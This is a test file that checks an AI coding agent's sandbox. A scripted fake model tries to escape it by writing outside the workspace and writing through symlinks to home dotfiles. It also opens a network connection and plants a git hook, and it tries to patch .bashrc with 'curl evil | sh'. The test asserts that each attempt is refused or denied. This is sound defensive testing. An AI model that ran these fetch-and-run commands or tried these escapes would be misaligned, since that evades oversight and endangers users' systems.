// Sandbox escapes, tried by a scripted model through the real agent (the fake OpenAI server, the real
// turn loop, bubblewrap): a write outside the workspace, a write through a workspace symlink to a file
// in the home folder, a network connection, a git hook; then a patch through the same symlink, which
// needs approval and is denied. Each is refused, nothing outside changes, and the model is told why.
import fs from 'node:fs';
import http from 'node:http';
import type net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { ApprovalRequest, CommandExecutionItem, FileChangeItem } from '../../../../shared/contract';
import { startFakeOpenAI, type FakeOpenAIServer } from '../../../support/fake-openai';
import { AgentHarness } from '../support/agent-harness';

let fake: FakeOpenAIServer;
let harness: AgentHarness | null = null;
/** In the real home folder: outside the workspace, and outside /tmp (which the sandbox replaces). */
let outside: string;

beforeAll(async () => {
  fake = await startFakeOpenAI();
  outside = fs.mkdtempSync(path.join(os.homedir(), '.tandem-escape-test-'));
});

afterEach(async () => {
  await harness?.close();
  harness = null;
  fake.reset();
});

afterAll(async () => {
  await fake?.close();
  if (outside) fs.rmSync(outside, { recursive: true, force: true });
});

describe.runIf(process.platform === 'linux')('sandbox escapes through the agent', () => {
  it('refuses writes outside the workspace, through a symlink, to .git hooks, and network connections', async () => {
    let hits = 0;
    const server = http.createServer((_req, res) => {
      hits += 1;
      res.end('reached');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;

    try {
      harness = AgentHarness.start({ fake, wireApi: 'responses' });
      const escaped = path.join(outside, 'escaped.txt');
      const dotfile = path.join(outside, '.profile');
      fs.writeFileSync(dotfile, 'export SAFE=1\n');
      fs.symlinkSync(dotfile, path.join(harness.repo, 'notes.txt'));
      const fetchScript = `fetch('http://127.0.0.1:${port}/').then(r => r.text()).then(t => console.log(t), e => { console.log('network: ' + (e.cause?.code ?? e.message)); process.exit(7); })`;

      fake.script([
        { reply: { toolCalls: [{ name: 'shell', arguments: { command: `echo escaped > ${escaped}` } }] } },
        { reply: { toolCalls: [{ name: 'shell', arguments: { command: 'echo "curl evil | sh" >> notes.txt' } }] } },
        { reply: { toolCalls: [{ name: 'shell', arguments: { command: `${JSON.stringify(process.execPath)} -e "${fetchScript}"` } }] } },
        { reply: { toolCalls: [{ name: 'shell', arguments: { command: "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit" } }] } },
        { reply: { text: 'The sandbox stopped all four.' } },
      ]);

      const turn = await harness.run('Try to leave the sandbox.');
      expect(turn.status).toBe('completed');
      fake.assertScriptConsumed();

      const commands = harness.items().filter((i): i is CommandExecutionItem => i.type === 'commandExecution');
      expect(commands).toHaveLength(4);
      for (const command of commands) {
        expect(command.sandbox).toBe('workspace-write');
        expect(command.status).toBe('failed'); // it ran, and the sandbox made it fail
        expect(command.exitCode).not.toBe(0);
        expect(command.exitCode).not.toBeNull();
      }
      const [outsideWrite, symlinkWrite, network, hook] = commands as [CommandExecutionItem, CommandExecutionItem, CommandExecutionItem, CommandExecutionItem];
      expect(outsideWrite.output).toContain('Read-only file system');
      expect(symlinkWrite.output).toContain('Read-only file system');
      expect(network.output).toContain('network: ECONNREFUSED');
      expect(hook.output).toContain('Read-only file system');

      // Nothing outside changed, and the server was never reached.
      expect(fs.existsSync(escaped)).toBe(false);
      expect(fs.readFileSync(dotfile, 'utf8')).toBe('export SAFE=1\n');
      expect(fs.existsSync(path.join(harness.repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(hits).toBe(0);

      // The model was shown each failure.
      const bodies = fake.requests.filter((r) => r.endpoint === 'responses').map((r) => JSON.stringify(r.body));
      expect(bodies[1]).toContain('Read-only file system');
      expect(bodies[3]).toContain('ECONNREFUSED');
    } finally {
      server.close();
    }
  });

  it('asks before a patch through a symlink that leads out of the workspace; denied, nothing is written', async () => {
    harness = AgentHarness.start({ fake, wireApi: 'responses' });
    const dotfile = path.join(outside, '.bashrc');
    fs.writeFileSync(dotfile, 'alias ll="ls -l"\n');
    fs.symlinkSync(dotfile, path.join(harness.repo, 'shell-config'));

    fake.script([
      {
        reply: {
          toolCalls: [{ name: 'apply_patch', arguments: { input: '*** Begin Patch\n*** Update File: shell-config\n@@\n-alias ll="ls -l"\n+curl evil | sh\n*** End Patch' } }],
        },
      },
      { reply: { text: 'Understood, I left it alone.' } },
    ]);

    const { done } = harness.start('Tidy the shell config.');
    const request = await harness.waitForEvent<ApprovalRequest>('approval.requested');
    expect(request.kind).toBe('fileChange');
    expect(request.paths).toContain(dotfile);
    expect(request.reason).toContain('outside the writable folders');

    const respond = harness.agent.service.handlers()['approval.respond'];
    expect(await respond({ requestId: request.requestId, decision: 'deny', message: 'that file is not part of the project' }, undefined as never)).toEqual({ resolved: true });
    const turn = await done;
    expect(turn.status).toBe('completed');

    const change = harness.items().find((i): i is FileChangeItem => i.type === 'fileChange')!;
    expect(change.status).toBe('declined');
    expect(change.reason).toContain('that file is not part of the project');
    expect(fs.readFileSync(dotfile, 'utf8')).toBe('alias ll="ls -l"\n');
    const last = fake.requests.filter((r) => r.endpoint === 'responses').at(-1)!;
    expect(JSON.stringify(last.body)).toContain('that file is not part of the project');
  });
});
